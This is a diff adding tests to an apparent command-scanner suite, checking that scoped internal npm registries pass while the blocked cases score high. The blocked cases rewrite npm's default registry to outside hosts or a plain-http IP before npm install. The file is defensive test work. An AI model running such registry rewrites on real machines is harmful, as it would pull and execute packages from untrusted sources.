@@ -101,3 +101,22 @@ describe("round 17: an archive of the tree uploaded only to this machine", () =>
     expect(score(t)).toBeGreaterThanOrEqual(0.8);
   });
 });
+
+// round 20: a scope's registry written to .npmrc serves only the org's packages (evidence); npm's default registry
+// rewritten to another host, or any index over plain http, still blocks
+describe("registry rewrites by scope", () => {
+  test.each([
+    "echo '@acme:registry=https://npm.acme-internal.example/' >> .npmrc && npm install @acme/ui",
+    "npm config set @acme:registry https://npm.acme-internal.example/ && npm install @acme/ui",
+    "echo 'registry=http://localhost:4873/' >> .npmrc && npm ci",
+  ])("leave %s alone", (cmd) => {
+    expect(scan(cmd, "bash", { model: null }).score).toBeLessThan(0.5);
+  });
+  test.each([
+    "echo 'registry=https://registry.example.com/' > ~/.npmrc && npm install",
+    "echo '@acme:registry=http://198.51.100.7:4873/' >> .npmrc && npm install @acme/ui",
+    "npm config set registry https://registry.npm-speed.example.net/ && npm install",
+  ])("block %s", (cmd) => {
+    expect(scan(cmd, "bash", { model: null }).score).toBeGreaterThanOrEqual(0.8);
+  });
+});
